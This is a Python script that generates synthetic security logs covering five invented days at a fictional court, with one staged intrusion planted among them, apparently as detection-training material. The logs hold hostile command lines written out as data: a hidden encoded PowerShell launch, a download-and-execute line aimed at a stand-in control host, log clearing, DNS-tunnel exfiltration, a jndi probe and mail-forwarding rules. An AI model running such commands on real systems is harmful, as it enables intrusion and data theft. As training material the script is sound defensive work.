#!/usr/bin/env python3
"""Makes content/samples: five ordinary days of a made-up court, with one quiet intrusion in them.

The same bytes every time (fixed seed, no clock). Usage: tools/make_samples.py [DIRECTORY]
Everything in it is invented: people, computers, addresses (RFC 5737 and private ones) and names below example.org/.net/.com.
"""
import datetime as dt
import gzip
import io
import json
import os
import random
import sys

RND = random.Random(20261109)
DAYS = [dt.datetime(2026, 11, d) for d in (9, 10, 11, 12, 13)]
DOMAIN = 'court.example.org'
STAFF = [('a.novak', 'ws-01'), ('k.adeyemi', 'ws-02'), ('l.ferrand', 'ws-03'), ('s.lindqvist', 'ws-04'), ('m.osei', 'ws-05'),
         ('j.tanaka', 'ws-06'), ('p.moreau', 'ws-07'), ('t.marsh', 'ws-08'), ('adm.ruiz', 'ws-09')]
PLACE = {ws: '10.20.4.%d' % (11 + i) for i, (_, ws) in enumerate(STAFF)}
PLACE.update({'dc-01': '10.20.1.5', 'files-01': '10.20.1.20', 'web-01': '10.20.1.80', 'bastion-01': '10.20.1.90'})
OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\'
S32 = 'C:\\Windows\\System32\\'
POWERSHELL = S32 + 'WindowsPowerShell\\v1.0\\powershell.exe'
SITES = ['www.example.com', 'news.example.org', 'mail.example.com', 'outlook.example.net', 'law.example.org', 'cdn.example.com',
         'updates.example.net', 'weather.example.com', 'library.example.org', 'maps.example.com', 'translate.example.net']
OUT = {'windows': [], 'syslog': [], 'audit': [], 'conn': [], 'dns': [], 'http': [], 'cloudtrail': [], 'signins': [], 'm365': [], 'access': []}


def at(day, hour, minute=0, second=0.0):
    return DAYS[day] + dt.timedelta(hours=hour, minutes=minute, seconds=second)


def office_hours(day):
    return at(day, 7, 45) + dt.timedelta(seconds=RND.triangular(0, 37800, 9000))


def z(t, digits=3):
    return t.strftime('%Y-%m-%dT%H:%M:%S') + ('.%0*d' % (digits, t.microsecond // 10 ** (6 - digits)) if digits else '') + 'Z'


def put(kind, t, record):
    OUT[kind].append((t, len(OUT[kind]), record))


# ---- Windows, as an event collector writes it: one flat JSON object a line
def windows(t, host, channel, provider, event_id, **fields):
    put('windows', t, (host, channel, dict({'@timestamp': z(t), 'Channel': channel, 'Provider_Name': provider, 'EventID': event_id,
                                            'Computer': host + '.' + DOMAIN}, **fields)))


def security(t, host, event_id, **fields):
    windows(t, host, 'Security', 'Microsoft-Windows-Security-Auditing', event_id, **fields)


def sysmon(t, host, event_id, **fields):
    windows(t, host, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', event_id,
            **dict({'UtcTime': z(t)[:-1].replace('T', ' ')}, **fields))


def process(t, host, user, image, command, parent, parent_command=None):
    sysmon(t, host, 1, ProcessId=RND.randrange(1000, 30000, 4), Image=image, CommandLine=command, CurrentDirectory='C:\\Windows\\',
           User=user if '\\' in user else 'COURT\\' + user, IntegrityLevel='Medium', ParentImage=parent,
           ParentCommandLine=parent_command or parent)


def ordinary_windows(day):
    for user, ws in STAFF:
        t = at(day, 7, 40) + dt.timedelta(seconds=RND.randrange(3600))
        security(t, ws, 4624, TargetUserName=user, TargetDomainName='COURT', LogonType=2, IpAddress='127.0.0.1', LogonProcessName='User32')
        security(t, 'dc-01', 4768, TargetUserName=user, ServiceName='krbtgt', PreAuthType='2', Status='0x0', TicketEncryptionType='0x12',
                 IpAddress='::ffff:' + PLACE[ws])
        for service in ('FILES-01$', 'DC-01$', 'cifs/files-01'):
            security(t + dt.timedelta(seconds=2), 'dc-01', 4769, TargetUserName=user + '@' + DOMAIN.upper(), ServiceName=service,
                     TicketEncryptionType='0x12', IpAddress='::ffff:' + PLACE[ws], Status='0x0')
        security(t + dt.timedelta(seconds=4), 'files-01', 4624, TargetUserName=user, TargetDomainName='COURT', LogonType=3,
                 IpAddress=PLACE[ws], LogonProcessName='Kerberos')
        process(t + dt.timedelta(seconds=9), ws, user, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', S32 + 'userinit.exe')
        programs = [(OFFICE + 'OUTLOOK.EXE', '"OUTLOOK.EXE"'), (OFFICE + 'WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\%s\\Documents\\draft.docx"' % user),
                    ('C:\\Program Files\\Browser\\msedge.exe', '"msedge.exe" --profile-directory=Default'),
                    (OFFICE + 'EXCEL.EXE', '"EXCEL.EXE" "\\\\files-01\\registry\\hearings.xlsx"'), ('C:\\Program Files\\Reader\\reader.exe', '"reader.exe" "order.pdf"')]
        for _ in range(RND.randrange(9, 15)):
            image, command = RND.choice(programs)
            process(office_hours(day), ws, user, image, command, 'C:\\Windows\\explorer.exe')
        for _ in range(4):
            process(office_hours(day), ws, 'NT AUTHORITY\\SYSTEM', S32 + 'svchost.exe', S32 + 'svchost.exe -k netsvcs -p', S32 + 'services.exe')
        process(office_hours(day), ws, 'NT AUTHORITY\\SYSTEM', POWERSHELL, 'powershell.exe -NoProfile -File "C:\\Program Files\\Inventory\\collect.ps1"',
                'C:\\Program Files\\Inventory\\agent.exe')
        for _ in range(RND.randrange(10, 17)):
            security(office_hours(day), 'files-01', 5145, SubjectUserName=user, IpAddress=PLACE[ws], ShareName='\\\\*\\cases',
                     RelativeTargetName='2026-%03d\\%s' % (RND.randrange(60, 120), RND.choice(['order.docx', 'hearing.docx', 'annex.pdf', 'list.xlsx'])),
                     AccessMask='0x1', AccessList='%%4416')
        if RND.random() < 0.35:
            security(office_hours(day), 'dc-01', 4625, TargetUserName=user, TargetDomainName='COURT', Status='0xc000006d', SubStatus='0xc000006a',
                     LogonType=3, IpAddress=PLACE[ws], WorkstationName=ws.upper())
        sysmon(office_hours(day), ws, 10, SourceImage='C:\\Program Files\\Endpoint Guard\\guard.exe', TargetImage=S32 + 'lsass.exe',
               GrantedAccess='0x1410', CallTrace='C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4')
        sysmon(office_hours(day), ws, 22, Image='C:\\Program Files\\Browser\\msedge.exe', QueryName=RND.choice(SITES), QueryStatus='0')
    # the administrator at work
    t = at(day, 10, RND.randrange(50))
    process(t, 'ws-09', 'adm.ruiz', S32 + 'mmc.exe', '"mmc.exe" "C:\\Windows\\system32\\dsa.msc"', 'C:\\Windows\\explorer.exe')
    process(t + dt.timedelta(minutes=6), 'ws-09', 'adm.ruiz', S32 + 'net.exe', 'net user l.ferrand /domain', S32 + 'cmd.exe')
    process(t + dt.timedelta(minutes=7), 'ws-09', 'adm.ruiz', S32 + 'ipconfig.exe', 'ipconfig /all', S32 + 'cmd.exe')
    security(t + dt.timedelta(minutes=9), 'dc-01', 4738, TargetUserName='l.ferrand', SubjectUserName='adm.ruiz', UserAccountControl='-')
    if day in (0, 2):
        windows(at(day, 18, 20), 'files-01', 'System', 'Service Control Manager', 7045, ServiceName='Guard Updater', ServiceType='user mode service',
                ImagePath='"C:\\Program Files\\Endpoint Guard\\update.exe"', StartType='auto start', AccountName='LocalSystem')
    for _ in range(12):
        windows(office_hours(day), RND.choice(['files-01', 'dc-01']), 'System', 'Service Control Manager', 7036,
                param1=RND.choice(['Windows Update', 'Print Spooler', 'Background Intelligent Transfer Service']), param2=RND.choice(['running', 'stopped']))


# ---- Zeek
def conn(t, src, dst, port, service='-', proto='tcp', up=1200, down=9000, seconds=2.1, state='SF'):
    uid = 'C%06dsample' % len(OUT['conn'])
    inside = lambda a: 'T' if a.startswith('10.') else 'F'
    put('conn', t, '\t'.join(map(str, ('%.6f' % t.replace(tzinfo=dt.timezone.utc).timestamp(), uid, src, RND.randrange(49152, 65000), dst, port, proto, service,
                                       '%.6f' % seconds, up, down, state, inside(src), inside(dst), 0, 'ShADadfF', 8, up + 320, 9, down + 360, '-'))))
    return uid


def lookup(t, src, name, kind='A', answer='198.51.100.10'):
    number = {'A': 1, 'AAAA': 28, 'TXT': 16, 'PTR': 12}[kind]
    uid = conn(t, src, '10.20.1.5', 53, 'dns', 'udp', 40 + len(name), 120, 0.01)
    put('dns', t, '\t'.join(map(str, ('%.6f' % t.replace(tzinfo=dt.timezone.utc).timestamp(), uid, src, RND.randrange(49152, 65000), '10.20.1.5', 53, 'udp',
                                      RND.randrange(65536), '0.010000', name, 1, 'C_INTERNET', number, kind, 0, 'NOERROR', 'F', 'F', 'T', 'T', 0, answer, '300.000000', 'F'))))


def fetch(t, src, dst, host, uri, agent, mime='text/html', size=9000, method='GET'):
    uid = conn(t, src, dst, 80, 'http', 'tcp', 600, size)
    put('http', t, '\t'.join(map(str, ('%.6f' % t.replace(tzinfo=dt.timezone.utc).timestamp(), uid, src, RND.randrange(49152, 65000), dst, 80, 1, method, host, uri,
                                       '-', '1.1', agent, '-', 0, size, 200, 'OK', '-', '-', '(empty)', '-', '-', '-', '-', '-', '-', 'F%06dsample' % len(OUT['http']), '-', mime))))


def ordinary_network(day):
    for _, ws in STAFF:
        for _ in range(30):
            t, site = office_hours(day), RND.choice(SITES)
            lookup(t, PLACE[ws], site)
            conn(t + dt.timedelta(seconds=0.2), PLACE[ws], '198.51.100.%d' % (10 + SITES.index(site)), 443, 'ssl', up=RND.randrange(800, 90000),
                 down=RND.randrange(4000, 900000), seconds=RND.uniform(0.4, 90))
        for _ in range(6):
            conn(office_hours(day), PLACE[ws], PLACE['files-01'], 445, 'smb,gssapi', up=RND.randrange(3000, 60000), down=RND.randrange(9000, 3000000), seconds=RND.uniform(1, 400))
        for _ in range(3):
            conn(office_hours(day), PLACE[ws], PLACE['dc-01'], 88, 'krb', up=1500, down=1600, seconds=0.02)
        fetch(office_hours(day), PLACE[ws], '198.51.100.16', 'updates.example.net', '/list.xml', 'Update-Agent/3.2', 'text/xml', 1800)
        lookup(office_hours(day), PLACE[ws], '_ldap._tcp.' + DOMAIN, 'TXT', '-')
    for _ in range(25):  # strangers at the web site
        stranger = '203.0.113.%d' % RND.randrange(100, 200)
        conn(at(day, RND.randrange(24), RND.randrange(60)), stranger, PLACE['web-01'], 443, 'ssl', up=900, down=RND.randrange(2000, 60000))


# ---- Linux
def syslog(t, host, tag, text):
    put('syslog', t, '%s %2d %s %s %s: %s' % (t.strftime('%b'), t.day, t.strftime('%H:%M:%S'), host, tag, text))


def audit(t, host, *records):
    number = 4000 + len(OUT['audit'])
    put('audit', t, '\n'.join('node=%s type=%s msg=audit(%.3f:%d): %s' % (host, kind, t.replace(tzinfo=dt.timezone.utc).timestamp(), number, text) for kind, text in records))


def executed(t, host, user, *words):
    audit(t, host, ('SYSCALL', 'arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=2 ppid=911 pid=%d auid=%d uid=%d gid=%d euid=%d tty=pts0 ses=4 comm="%s" exe="/usr/bin/%s" key="exec"'
                    % (RND.randrange(2000, 9000), user, user, user, user, words[0], words[0])),
          ('EXECVE', 'argc=%d ' % len(words) + ' '.join('a%d="%s"' % p for p in enumerate(words))), ('CWD', 'cwd="/root"'),
          ('PATH', 'item=0 name="/usr/bin/%s" inode=1311 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL' % words[0]))


def ordinary_linux(day):
    for hour in range(24):
        syslog(at(day, hour, 17, 1), 'web-01', 'CRON[%d]' % RND.randrange(1000, 9000), '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)')
        syslog(at(day, hour, 17, 1), 'web-01', 'CRON[%d]' % RND.randrange(1000, 9000), 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)')
    for _ in range(3):
        t = office_hours(day)
        syslog(t, 'bastion-01', 'sshd[%d]' % RND.randrange(1000, 9000), 'Accepted publickey for adm.ruiz from 10.20.4.19 port %d ssh2: ED25519 SHA256:c2FtcGxlLWtleQ' % RND.randrange(40000, 60000))
        syslog(t + dt.timedelta(seconds=30), 'bastion-01', 'sudo', 'adm.ruiz : TTY=pts/0 ; PWD=/home/adm.ruiz ; USER=root ; COMMAND=/usr/bin/apt-get update')
        executed(t + dt.timedelta(seconds=31), 'bastion-01', 0, 'apt-get', 'update')
        executed(t + dt.timedelta(seconds=50), 'bastion-01', 1000, 'ls', '-l', '/var/log')
    if day not in (0, 3):
        return
    # everyday noise: a stranger tries passwords at the door
    start, stranger = at(day, RND.randrange(1, 5), RND.randrange(50)), '203.0.113.%d' % (210 + day)
    for i in range(36):
        syslog(start + dt.timedelta(seconds=9 * i), 'bastion-01', 'sshd[%d]' % (7000 + i), 'Failed password for %s from %s port %d ssh2' % (
            RND.choice(['root', 'invalid user admin', 'invalid user test', 'invalid user oracle']), stranger, 40000 + i))


def ordinary_web(day):
    def line(t, who, request, status, size, agent):
        put('access', t, '%s - - [%s +0000] "%s" %d %d "-" "%s"' % (who, t.strftime('%d/%b/%Y:%H:%M:%S'), request, status, size, agent))
    for _ in range(70):
        line(at(day, RND.randrange(24), RND.randrange(60), RND.randrange(60)), '203.0.113.%d' % RND.randrange(100, 200),
             'GET /%s HTTP/1.1' % RND.choice(['', 'cases', 'cases/2026-101', 'press', 'calendar', 'style.css', 'logo.png']), 200, RND.randrange(800, 40000), 'Mozilla/5.0 (X11; Linux x86_64)')
    for uri, status in (('/.env', 404), ('/wp-login.php', 404), ('/?q=${jndi:ldap://203.0.113.9/a}', 404)):
        line(at(day, RND.randrange(24), RND.randrange(60)), '203.0.113.9', 'GET %s HTTP/1.1' % uri, status, 162, 'scanner')


# ---- cloud
def cloudtrail(t, name, source, request=None, user='backup-job', read_only=True):
    put('cloudtrail', t, {'eventVersion': '1.09', 'userIdentity': {'type': 'IAMUser', 'principalId': 'AIDAEXAMPLE0000000001', 'arn': 'arn:aws:iam::111122223333:user/' + user,
                                                                   'accountId': '111122223333', 'userName': user},
                          'eventTime': z(t, 0), 'eventSource': source + '.amazonaws.com', 'eventName': name, 'awsRegion': 'eu-central-1', 'sourceIPAddress': '198.51.100.24',
                          'userAgent': 'aws-cli/2.19.0', 'requestParameters': request, 'responseElements': None, 'readOnly': read_only, 'eventID': '00000000-0000-4000-8000-%012d' % len(OUT['cloudtrail']),
                          'eventType': 'AwsApiCall', 'recipientAccountId': '111122223333'})


def sign_in(t, user, address='198.51.100.24', country='NL', code=0, protocol='none', app='Outlook', agent='Mozilla/5.0 (Windows NT 10.0; Win64; x64)'):
    put('signins', t, {'id': '00000000-0000-4000-9000-%012d' % len(OUT['signins']), 'createdDateTime': z(t, 0), 'userPrincipalName': user + '@' + DOMAIN, 'appDisplayName': app,
                       'ipAddress': address, 'clientAppUsed': 'Browser', 'userAgent': agent, 'authenticationProtocol': protocol, 'conditionalAccessStatus': 'success', 'isInteractive': True,
                       'resourceDisplayName': 'Office 365 Exchange Online', 'status': {'errorCode': code, 'failureReason': 'Other.' if code == 0 else 'Invalid username or password.'},
                       'location': {'city': 'Example City', 'countryOrRegion': country}})


def m365(t, user, operation, workload, address='198.51.100.24', **more):
    put('m365', t, dict({'CreationTime': z(t, 0)[:-1], 'Id': '00000000-0000-4000-a000-%012d' % len(OUT['m365']), 'Operation': operation, 'OrganizationId': '00000000-0000-4000-8000-000000000001',
                         'RecordType': 1 if workload == 'Exchange' else 6, 'ResultStatus': 'Succeeded', 'UserType': 0, 'Version': 1, 'Workload': workload, 'ClientIP': address,
                         'UserId': user + '@' + DOMAIN}, **more))


def ordinary_cloud(day):
    for user, _ in STAFF:
        for _ in range(3):
            sign_in(office_hours(day), user)
        if RND.random() < 0.3:
            sign_in(office_hours(day), user, code=50126)
        for _ in range(5):
            m365(office_hours(day), user, RND.choice(['FileAccessed', 'FileModified', 'FileDownloaded']), 'SharePoint',
                 ObjectId='https://%s/sites/registry/Shared Documents/hearing-%02d.docx' % (DOMAIN, RND.randrange(40)))
        m365(office_hours(day), user, 'MailItemsAccessed', 'Exchange', ClientInfoString='Client=OWA;Mozilla/5.0', OperationProperties=[{'Name': 'MailAccessType', 'Value': 'Bind'}])
    if day == 1:
        m365(at(day, 11, 4), 'p.moreau', 'New-InboxRule', 'Exchange', Parameters=[{'Name': 'Name', 'Value': 'Journals'}, {'Name': 'From', 'Value': 'list@journal.example.org'}, {'Name': 'MoveToFolder', 'Value': 'Journals'}])
    for hour in range(0, 24, 2):
        cloudtrail(at(day, hour, 3), 'PutObject', 's3', {'bucketName': 'court-backup', 'key': 'nightly/%02d.tar' % hour}, read_only=False)
        cloudtrail(at(day, hour, 4), 'ListBuckets', 's3')
        cloudtrail(at(day, hour, 5), 'DescribeInstances', 'ec2', user='monitor')


# ---- the intrusion: each step with the finding it should cause
def intrusion():
    ws, home, control = 'ws-05', PLACE['ws-05'], '203.0.113.77'
    # Tuesday: a document by mail starts a hidden script, which fetches more, settles in and looks around
    t = at(1, 8, 41, 12)
    sysmon(t, ws, 11, Image=OFFICE + 'OUTLOOK.EXE', TargetFilename='C:\\Users\\m.osei\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7Q2\\Request for urgent relief.docm')
    process(t + dt.timedelta(seconds=20), ws, 'm.osei', OFFICE + 'WINWORD.EXE', '"WINWORD.EXE" /n "...\\Content.Outlook\\7Q2\\Request for urgent relief.docm"', OFFICE + 'OUTLOOK.EXE')
    process(t + dt.timedelta(seconds=33), ws, 'm.osei', POWERSHELL, 'powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
            OFFICE + 'WINWORD.EXE', '"WINWORD.EXE" /n "Request for urgent relief.docm"')
    windows(t + dt.timedelta(seconds=35), ws, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, MessageNumber=1, MessageTotal=1,
            ScriptBlockText="IEX (New-Object Net.WebClient).DownloadString('http://%s/r')" % control)
    fetch(t + dt.timedelta(seconds=36), home, control, control, '/r', 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.1', 'text/plain', 18400)
    security(t + dt.timedelta(minutes=2), ws, 4698, SubjectUserName='m.osei', SubjectDomainName='COURT', TaskName='\\Office Font Cache',
             TaskContent='<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>wscript.exe</Command><Arguments>//B C:\\Users\\Public\\Libraries\\sync.vbs</Arguments></Exec></Actions></Task>')
    for i, (name, command) in enumerate([('whoami', 'whoami /all'), ('net', 'net group "Registry" /domain'), ('nltest', 'nltest /dsgetdc:court'), ('quser', 'quser'), ('systeminfo', 'systeminfo'), ('netstat', 'netstat -ano')]):
        process(t + dt.timedelta(minutes=9, seconds=21 * i), ws, 'm.osei', S32 + name + '.exe', command, S32 + 'cmd.exe')
    # ... and in the afternoon reads the password memory
    sysmon(at(1, 13, 22, 40), ws, 10, SourceImage='C:\\Users\\Public\\Libraries\\fontdrv.exe', TargetImage=S32 + 'lsass.exe', GrantedAccess='0x1010', CallTrace='C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(000001A2C4)')
    # Wednesday: tickets to crack, then the file server
    for i, service in enumerate(['svc-scan', 'svc-sql', 'svc-print', 'svc-backup', 'svc-portal', 'svc-archive']):
        security(at(2, 6, 55, 14 * i), 'dc-01', 4769, TargetUserName='m.osei@' + DOMAIN.upper(), ServiceName=service, TicketEncryptionType='0x17', IpAddress='::ffff:' + home, Status='0x0')
    for day, hour, name, command in ((2, 21, 'WinFontSvc', 'dir D:\\cases'), (3, 20, 'WinFontSv2', 'C:\\Windows\\Temp\\k.bat')):
        security(at(day, hour, 13, 58), 'files-01', 4624, TargetUserName='svc-backup', TargetDomainName='COURT', LogonType=3, IpAddress=home, LogonProcessName='NtLmSsp')
        conn(at(day, hour, 13, 57), home, PLACE['files-01'], 445, 'smb,dce_rpc', up=48000, down=22000, seconds=31)
        windows(at(day, hour, 14, 3), 'files-01', 'System', 'Service Control Manager', 7045, ServiceName=name, ServiceType='user mode service',
                ImagePath='%%COMSPEC%% /Q /c %s > C:\\Windows\\Temp\\o.txt' % command, StartType='demand start', AccountName='LocalSystem')
    # Thursday: the account of an intern reads the case files, a password-protected archive, out through names and the web
    for i in range(150):
        security(at(3, 14, 5, 3.4 * i), 'files-01', 5145, SubjectUserName='t.marsh', IpAddress=home, ShareName='\\\\*\\cases',
                 RelativeTargetName='2026-114\\witnesses\\%s-%03d.docx' % (RND.choice(['statement', 'address', 'protection']), i), AccessMask='0x1', AccessList='%%4416')
    process(at(3, 14, 22, 9), ws, 'm.osei', 'C:\\Users\\Public\\Libraries\\fc.exe', 'fc.exe a -r -v50m -hpWinter!22 C:\\Users\\Public\\Libraries\\cache.dat C:\\Users\\Public\\Libraries\\c\\*', S32 + 'cmd.exe')
    for i in range(160):
        label = ''.join(RND.choice('abcdefghijklmnopqrstuvwxyz234567') for _ in range(52))
        lookup(at(3, 15, 10, 4.3 * i), home, '%s.%02x.ns.telemetry-sync.example.net' % (label, i), 'TXT', 'TXT 4 b2s=')
    for i in range(10):
        conn(at(3, 15, 31 + 4 * i), home, control, 443, 'ssl', up=RND.randrange(57000000, 61000000), down=140000, seconds=201)
    # ... and sweeps up
    process(at(3, 22, 39, 50), 'files-01', 'svc-backup', S32 + 'wevtutil.exe', 'wevtutil cl Security', S32 + 'cmd.exe')
    windows(at(3, 22, 39, 51), 'files-01', 'Security', 'Microsoft-Windows-Eventlog', 1102, SubjectUserName='svc-backup', SubjectDomainName='COURT')
    # Friday: the same person's mailbox in the cloud
    sign_in(at(4, 2, 11, 30), 'm.osei', '203.0.113.44', 'SG', protocol='deviceCode', app='Microsoft Authentication Broker', agent='Mozilla/5.0 (X11; Linux x86_64)')
    m365(at(4, 2, 26, 2), 'm.osei', 'New-InboxRule', 'Exchange', '203.0.113.44', Parameters=[{'Name': 'Name', 'Value': '.'}, {'Name': 'SubjectOrBodyContainsWords', 'Value': 'security;password;helpdesk'},
                                                                                            {'Name': 'DeleteMessage', 'Value': 'True'}])
    m365(at(4, 2, 27, 40), 'm.osei', 'New-InboxRule', 'Exchange', '203.0.113.44', Parameters=[{'Name': 'Name', 'Value': '..'}, {'Name': 'ForwardTo', 'Value': 'registry-copy@mail.example.net'}, {'Name': 'MarkAsRead', 'Value': 'True'}])


ZEEK = {
    'conn': ('ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto service duration orig_bytes resp_bytes conn_state local_orig local_resp missed_bytes history orig_pkts orig_ip_bytes resp_pkts resp_ip_bytes tunnel_parents',
             'time string addr port addr port enum string interval count count string bool bool count string count count count count set[string]'),
    'dns': ('ts uid id.orig_h id.orig_p id.resp_h id.resp_p proto trans_id rtt query qclass qclass_name qtype qtype_name rcode rcode_name AA TC RD RA Z answers TTLs rejected',
            'time string addr port addr port enum count interval string count string count string count string bool bool bool bool count vector[string] vector[interval] bool'),
    'http': ('ts uid id.orig_h id.orig_p id.resp_h id.resp_p trans_depth method host uri referrer version user_agent origin request_body_len response_body_len status_code status_msg info_code info_msg tags username password proxied orig_fuids orig_filenames orig_mime_types resp_fuids resp_filenames resp_mime_types',
             'time string addr port addr port count string string string string string string string count count count string count string set[enum] string string set[string] vector[string] vector[string] vector[string] vector[string] vector[string] vector[string]'),
}


def zeek_text(kind, lines, day):
    names, types = ZEEK[kind]
    mark = day.strftime('%Y-%m-%d')
    return ('#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t%s\n#open\t%s-00-00-00\n#fields\t%s\n#types\t%s\n' % (
        kind, mark, names.replace(' ', '\t'), types.replace(' ', '\t')) + '\n'.join(lines) + '\n#close\t%s-23-59-59\n' % mark)


def write(base, name, text, packed=False):
    path = os.path.join(base, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = text if isinstance(text, bytes) else text.encode()
    if packed:
        room = io.BytesIO()
        with gzip.GzipFile(filename='', mode='wb', fileobj=room, mtime=0) as f:
            f.write(data)
        data = room.getvalue()
    with open(path, 'wb') as f:
        f.write(data)


def main():
    base = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'content', 'samples')
    for day in range(len(DAYS)):
        for part in (ordinary_windows, ordinary_network, ordinary_linux, ordinary_web, ordinary_cloud):
            part(day)
    intrusion()
    sort = lambda kind: [(t, r) for t, _, r in sorted(OUT[kind], key=lambda x: x[:2])]
    numbers, events = {}, []
    for t, (host, channel, record) in sort('windows'):
        numbers[host, channel] = numbers.get((host, channel), 1000) + 1
        events.append((t, json.dumps(dict(record, EventRecordID=numbers[host, channel]))))
    for day in DAYS:
        end, mark = day + dt.timedelta(days=1), day.strftime('%Y-%m-%d')
        lines = [x for t, x in events if day <= t < end]
        if day == DAYS[2]:  # a line that was cut when a disk was full
            lines.insert(200, lines[200][:141])
        write(base, 'windows/forwarded-%s.ndjson%s' % (mark, '.gz' if day == DAYS[0] else ''), '\n'.join(lines) + '\n', packed=day == DAYS[0])
        for kind in ZEEK:
            lines = [x for t, x in sort(kind) if day <= t < end]
            write(base, 'zeek/%s/%s.log' % (mark, kind), zeek_text(kind, lines, day))
        records = [x for t, x in sort('cloudtrail') if day <= t < end]
        write(base, 'cloud/cloudtrail/%s.json' % mark, json.dumps({'Records': records}))
    write(base, 'cloud/entra-signins.ndjson', '\n'.join(json.dumps(x) for _, x in sort('signins')) + '\n')
    write(base, 'cloud/m365-audit.ndjson', '\n'.join(json.dumps(x) for _, x in sort('m365')) + '\n')
    write(base, 'linux/auth.log', '\n'.join(x for _, x in sort('syslog')) + '\n')
    write(base, 'linux/audit.log', '\n'.join(x for _, x in sort('audit')) + '\n')
    write(base, 'web/access.log', '\n'.join(x for _, x in sort('access')) + '\n')
    # the export of a door-lock system in a format nobody knows
    write(base, 'doors/badge-export.dat', b'BDGX\x02\x00\x00\x00' + bytes(RND.randrange(256) for _ in range(4096)))


if __name__ == '__main__':
    main()
